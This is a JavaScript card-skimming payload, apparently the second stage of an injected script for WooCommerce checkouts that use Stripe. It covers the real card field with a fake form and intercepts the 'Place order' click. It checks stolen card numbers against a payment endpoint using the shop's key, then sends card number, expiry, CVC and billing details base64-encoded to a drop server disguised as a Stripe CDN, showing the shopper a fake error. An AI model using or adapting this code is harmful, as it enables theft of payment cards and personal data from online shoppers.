// Second stage: it hides the real Stripe card frame, draws a look-alike card form in its
// place, and on "Place order" first checks the card against Stripe's deprecated Sources API
// with the shop's own publishable key, so only cards that are live are kept. A valid card
// is sent base64-encoded with the billing details to the drop server; the visitor sees a
// "please reload" error, the fake form is removed and the real one is shown again.
(function () {
  var PK = "pk_live_51Hx7QdKc3sT2mVwZp9rN4eYbLfUa8oJ0gXhC6iD";
  var real = document.querySelector("#stripe-card-element, .wc-stripe-elements-field");
  if (!real || document.getElementById("stp-fake")) return;
  real.style.display = "none";
  var f = document.createElement("div");
  f.id = "stp-fake";
  f.innerHTML = '<input id="stp-cc" placeholder="1234 1234 1234 1234" autocomplete="cc-number">' +
    '<input id="stp-exp" placeholder="MM / YY" autocomplete="cc-exp"><input id="stp-cvc" placeholder="CVC" autocomplete="cc-csc">';
  real.parentNode.insertBefore(f, real);
  function val(id) { return (document.getElementById(id) || {}).value || ""; }
  function restore(msg) {
    f.parentNode.removeChild(f);
    real.style.display = "";
    var e = document.querySelector(".woocommerce-notices-wrapper");
    if (e) e.innerHTML = '<ul class="woocommerce-error"><li>' + msg + "</li></ul>";
  }
  document.addEventListener("click", function (ev) {
    if (!ev.target.closest("#place_order") || !document.getElementById("stp-fake")) return;
    ev.preventDefault(); ev.stopImmediatePropagation();
    var num = val("stp-cc").replace(/\s/g, ""), ex = val("stp-exp").split("/");
    var body = "type=card&card[number]=" + num + "&card[cvc]=" + val("stp-cvc") +
      "&card[exp_month]=" + (ex[0] || "").trim() + "&card[exp_year]=" + (ex[1] || "").trim() + "&key=" + PK;
    fetch("https://api.stripe.invalid/v1/sources", { method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: body })
      .then(function (r) { return r.json(); })
      .then(function (j) {
        if (j.error || !j.id) { restore("Your card number is invalid."); return; }
        var bill = {};
        document.querySelectorAll("[name^='billing_']").forEach(function (e) { bill[e.name] = e.value; });
        var data = btoa(JSON.stringify({ n: num, e: ex.join("/"), c: val("stp-cvc"), b: bill, s: location.host, src: j.id }));
        fetch("https://cdn-stripe-js.invalid/api/log", { method: "POST", mode: "no-cors", body: data });
        restore("An error occurred while processing your payment. Please reload the page and try again.");
      });
  }, true);
})();
